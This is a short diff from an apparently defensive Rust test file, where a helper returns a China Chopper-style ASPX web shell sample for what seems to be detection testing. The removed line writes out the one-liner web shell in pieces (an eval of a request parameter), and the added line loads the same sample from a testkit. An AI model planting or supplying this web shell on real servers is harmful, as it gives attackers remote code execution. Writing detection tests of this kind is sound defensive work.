@@ -31,7 +31,7 @@ fn summary(recs: &[Value]) -> &Value {
 
 /// A China Chopper-style ASPX one-liner (assembled, so no source file carries it).
 fn chopper() -> String {
-    ["<%@ Page Language=\"Jscript\"%><%", "eval(Request", ".Item[\"z\"],\"unsafe\");%>"].concat()
+    ferret_testkit::samples::chopper_aspx("z")
 }
 
 fn domain() -> String {
